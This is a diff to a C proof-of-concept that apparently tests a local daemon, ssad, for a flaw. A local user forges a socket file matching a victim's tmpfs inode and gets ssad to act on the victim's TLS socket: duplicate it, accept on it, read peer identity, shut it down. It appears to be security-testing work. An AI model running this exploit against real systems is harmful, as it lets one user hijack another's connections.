@@ -1,13 +1,14 @@
 /*
- * sec_identity_attack forge SOCKET DIR INODE: another user's TLS socket taken over by its
- * inode number (issue 13, item 1), as a hostile local user does it, with ssad's own protocol
- * and no libssa.
+ * sec_identity_attack forge SOCKET DIR INODE...: another user's TLS sockets taken over by
+ * their inode numbers (issue 13, item 1), as a hostile local user does it, with ssad's own
+ * protocol and no libssa.
  *
- * It makes socket files in DIR (a tmpfs: its inode numbers are sequential) until one has inode
- * INODE, the number of the victim's A, opens it O_PATH and sends it to ssad (SOCKET) as the
- * descriptor of each request: lookup, the peer's identity and chain, a dup of the TCP socket
- * (accepting on it when it listens), an option, listen().  One line per request: "OK ..."
- * when ssad acted on the victim's socket, else the errno ssad answered.
+ * For each INODE (the number of a victim's A, in ascending order) it makes a socket file in
+ * DIR, a tmpfs, whose inode numbers count up: unnamed files (O_TMPFILE) use up the numbers
+ * before it.  It opens the file O_PATH and sends it to ssad (SOCKET) as the descriptor of
+ * each request: lookup, the peer's identity and chain, a dup of the TCP socket (accepting on
+ * it when it listens), an option, listen(), shutdown().  Under "== inode N", one line per
+ * request: "OK ..." when ssad acted on the victim's socket, else the errno ssad answered.
  */
 /* O_PATH, accept4 */
 #define _GNU_SOURCE 1
@@ -53,14 +54,33 @@ static const char *errname(int e)
 	}
 }
 
+/* The inode number the tmpfs at dir gave last (it gives the next one up). */
+static unsigned long last_inode(const char *dir)
+{
+	int fd = open(dir, O_TMPFILE | O_RDWR | O_CLOEXEC, 0600);
+	struct stat st;
+	unsigned long ino = fd >= 0 && fstat(fd, &st) == 0 ? (unsigned long)st.st_ino : 0;
+
+	if (fd >= 0)
+		close(fd);
+	return ino;
+}
+
 /* A socket file in dir whose inode is ino: the path, or NULL when the tmpfs is past it. */
 static const char *forge_inode(const char *dir, unsigned long ino)
 {
 	static char path[4096];
-	unsigned long made = 0;
+	unsigned long made = 0, last = 0;
 	struct stat st;
 
 	snprintf(path, sizeof(path), "%s/forged", dir);
+	/* Unnamed files are the cheapest way up; the shared tmpfs may move meanwhile. */
+	while (made < MAX_FILES && (last = last_inode(dir)) != 0 && last + 2 < ino)
+		made++;
+	if (last >= ino) {
+		printf("forge: unreachable: %s is at inode %lu, past %lu\n", dir, last, ino);
+		return NULL;
+	}
 	for (; made < MAX_FILES; made++) {
 		unlink(path);
 		if (mknod(path, S_IFSOCK | 0600, 0) < 0 || stat(path, &st) < 0) {
@@ -191,28 +211,27 @@ static void use_stolen_tcp(int t)
 	close(k);
 }
 
-static int cmd_forge(const char *sock, const char *dir, unsigned long ino)
+static void attack(int conn, const char *dir, unsigned long ino)
 {
 	const char *path;
 	struct ssa_request req;
 	struct answer ans;
 	struct stat st;
-	int fd, conn;
+	int fd;
 	const char *v;
 
-	mkdir(dir, 0700);
+	printf("== inode %lu\n", ino);
 	path = forge_inode(dir, ino);
 	if (path == NULL)
-		return 0;
+		return;
 	fd = open(path, O_PATH | O_CLOEXEC);
 	if (fd < 0 || fstat(fd, &st) < 0) {
 		printf("open O_PATH: %s\n", strerror(errno));
-		return 1;
+		exit(1);
 	}
 	printf("sending an O_PATH descriptor: %s, inode %lu, device %u:%u\n",
 	       S_ISSOCK(st.st_mode) ? "a socket file" : "not a socket file",
 	       (unsigned long)st.st_ino, major(st.st_dev), minor(st.st_dev));
-	conn = dial(sock);
 
 	req = (struct ssa_request){.op = SSA_OP_LOOKUP};
 	v = verdict(conn, &req, NULL, fd, &ans);
@@ -241,15 +260,22 @@ static int cmd_forge(const char *sock, const char *dir, unsigned long ino)
 	printf("listen: %s\n", verdict(conn, &req, NULL, fd, &ans));
 	req = (struct ssa_request){.op = SSA_OP_SHUTDOWN, .a = SHUT_RDWR};
 	printf("shutdown: %s\n", verdict(conn, &req, NULL, fd, &ans));
+	close(fd);
 	unlink(path);
-	return 0;
 }
 
 int main(int argc, char **argv)
 {
+	int conn;
+
 	setvbuf(stdout, NULL, _IOLBF, 0);
-	if (argc == 5 && strcmp(argv[1], "forge") == 0)
-		return cmd_forge(argv[2], argv[3], strtoul(argv[4], NULL, 10));
-	fprintf(stderr, "usage: sec_identity_attack forge SOCKET DIR INODE\n");
-	return 2;
+	if (argc < 5 || strcmp(argv[1], "forge") != 0) {
+		fprintf(stderr, "usage: sec_identity_attack forge SOCKET DIR INODE...\n");
+		return 2;
+	}
+	mkdir(argv[3], 0700);
+	conn = dial(argv[2]);
+	for (int i = 4; i < argc; i++)
+		attack(conn, argv[3], strtoul(argv[i], NULL, 10));
+	return 0;
 }
